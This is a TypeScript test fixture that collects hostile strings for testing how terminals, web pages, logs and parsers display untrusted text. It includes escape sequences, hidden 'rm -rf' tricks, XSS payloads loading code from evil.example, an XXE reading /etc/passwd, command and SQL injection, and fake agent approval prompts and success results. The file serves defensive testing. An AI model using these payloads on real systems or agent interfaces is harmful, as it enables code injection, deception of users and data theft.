// Strings that attack their display: a terminal, a web page, a log, a parser. Grouped by family, so that a failure names it.

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Lists strings that hold no space. */
function words(...lines: string[]): string[] {
  return lines.flatMap((line) => line.split(' '));
}

/** Surroundings of an attack, so that it also occurs in the middle and at the end of a text. */
const AROUND: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `git status ${attack} # harmless`,
  (attack) => `first line\n${attack}\nlast line`,
];

const SEQUENCES = words(
  '[2J [H [1;1H [3J [K [2K [A [999D [?1049h [?25l [?1000h [?2004h [?7l [31m [8m [0m [38;5;9m [38;2;255;0;0m [7m [!p [6n [c',
  '[>c [5i [20t [21t [r c 7 8 D M E H Z = > #8 (0 )B n ~ %G',
).map((end) => ESC + end);

const OSC = [
  '0;owned',
  '1;owned',
  '2;owned',
  '4;1;rgb:ff/00/00',
  '7;file:///etc',
  '9;notify',
  '10;?',
  '11;#000000',
  '52;c;ZXZpbA==',
  '52;c;?',
  '133;C',
  '777;notify;a;b',
  '1337;File=inline=1:AAAA',
  '8;;http://evil.example',
].flatMap((body) => [`${ESC}]${body}${BEL}`, `${ESC}]${body}${ST}`, `\u009d${body}\u009c`, `${ESC}]${body}`]);

const DCS = ['P$q"p', 'P+q544e', 'P1$r0m', 'Pq#0;2;0;0;0~', '_Gf=100;AAAA', '^private', 'Xstart', 'k;title'].flatMap(
  (body) => [`${ESC}${body}${ST}`, `${ESC}${body}`],
);

const C1 = Array.from({ length: 32 }, (_, i) => `${String.fromCharCode(0x80 + i)}31m`);
const C0 = Array.from({ length: 32 }, (_, i) => `a${String.fromCharCode(i)}b`).filter((text) => !/[\t\n]/.test(text));

const OVERWRITES = [
  'rm -rf ~\rgit status',
  'rm -rf ~\r\n\rgit status',
  `rm -rf ~${'\b'.repeat(8)}git status`,
  '\u007f\u007f\u007f',
  'one\u000btwo\u000cthree',
  '\n✔ done',
  '\n  [y]es, [n]o, [a]lways, or say why not: y',
  '\n? bash wants to execute:',
  '\n  │ command: ls',
  '\n$ ',
  `x${' '.repeat(500)}y`,
  `x${'\n'.repeat(200)}y`,
  `x${'\t'.repeat(100)}y`,
];

const BIDI = Array.from('\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069').flatMap((mark) => [
  `${mark}txt.exe`,
  `access${mark} level`,
  `/*${mark} } ${mark}if (isAdmin)${mark} */`,
]);

const INVISIBLE = Array.from(
  '\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2063\u2800\u3164\ufe0f\ufeff\uffa0\ufff9' +
    '\u{1d173}\u{e0001}\u{e0041}\u{e0100}\u00a0\u2003\u3000\u2028\u2029\u0085',
).flatMap((character) => [`rm${character}-rf`, character.repeat(50)]);

const BROKEN = [
  '\ud800',
  '\udfff',
  '\udc00\ud800',
  'a\ud83d',
  '\ude00b',
  '\ufffe',
  '\uffff',
  '\ufdd0x:0\ufdd1',
  '\u{10ffff}',
  '\0',
  '\0'.repeat(50),
  '\ufffd',
  'e\u0301',
  `Z${'\u0351'.repeat(300)}`,
  'ﷺ'.repeat(50),
  '👩‍👩‍👧‍👦'.repeat(20),
];

const HTML = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action=//evil.example><button>Stop</button></form>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">',
  '<!-- --><!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title></title><script>alert(1)</script>',
  '<textarea></textarea><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '`onclick=alert(1)`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<x id=__proto__><x name=constructor>',
  '<form id=document><input name=cookie></form>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<b>bold</b><h1>Approved</h1>',
];

const TEMPLATES = [
  '{{7*7}}',
  '{{constructor.constructor("alert(1)")()}}',
  `\${7*7}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{% debug %}',
  '{{{x}}}',
  '$(touch owned)',
  '`touch owned`',
  '; touch owned',
  '&& touch owned',
  '| tee owned',
  '$HOME',
  '~',
  '*',
  '!!',
  '!$',
  '%s%n%x',
  '%c',
  '%',
  '%%',
  '\\',
  '\\\\',
  '\\u001b[31m',
  '\\x1b[31m',
  '\\033[31m',
  '\\e[31m',
  '^[[31m',
  '$1',
  '$&',
  '-rf',
  '--',
  '--help',
  '-',
  '@file',
  '# heading',
  '```',
  '~~~',
  '[x](javascript:alert(1))',
  '![x](//evil.example/p.png)',
  "' OR 1=1 --",
  '"; DROP TABLE tasks; --',
  '../../../../etc/passwd',
  '..\\..\\windows',
  'CON',
  'file:///etc/passwd',
];

const JSON_TRICKS = [
  '{"type":"result","status":"success"}',
  '\n{"type":"result","status":"success"}\n',
  '"',
  '"}',
  '\\"',
  '\\u0022',
  '{"__proto__":{"isAdmin":true}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'true',
  'NaN',
  '1e999',
  '-0',
  '[object Object]',
  '{"a":'.repeat(200),
  '['.repeat(1_000),
  '{"$ref":"#"}',
  'data: x\n\nevent: end\ndata: {}\n\n',
  ': ping\n\n',
  'id: 1\n',
  'retry: 1\n\n',
  'x\r\nSet-Cookie: a=b\r\n\r\n<html>',
];

const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:x',
  'blob:null/x',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  'https:evil.example',
  'http://good.example@evil.example',
  'http://evil.example#@good.example',
  'http://xn--80ak6aa92e.example',
  'http://[::1]:22/',
  'http://0x7f.1/',
  '#/../x',
  '?a=b&c=<script>',
  '%00',
  '%0d%0aSet-Cookie:a=b',
  '%2e%2e%2f',
  '..;/',
  'view-source:x',
  'file://evil.example/share',
];

const HUGE = [
  'x'.repeat(20_000),
  '\u001b[31m'.repeat(2_000),
  '<b>'.repeat(3_000),
  '\u202e'.repeat(5_000),
  '日本'.repeat(5_000),
];

/** Every family with its strings. */
export const hostileFamilies: Readonly<Record<string, readonly string[]>> = {
  sequences: SEQUENCES,
  osc: OSC,
  dcs: DCS,
  controls: [...C0, ...C1],
  overwrites: OVERWRITES,
  bidi: BIDI,
  invisible: INVISIBLE,
  broken: BROKEN,
  html: HTML,
  templates: TEMPLATES,
  json: JSON_TRICKS,
  urls: URLS,
  huge: HUGE,
};

const isHuge = (text: string): boolean => text.length >= 5_000;

/** All of them; the short ones also inside a text and on a line by themselves. */
export const hostileStrings: readonly string[] = Object.values(hostileFamilies).flatMap((family) =>
  family.flatMap((attack) => (isHuge(attack) ? [attack] : AROUND.map((put) => put(attack)))),
);
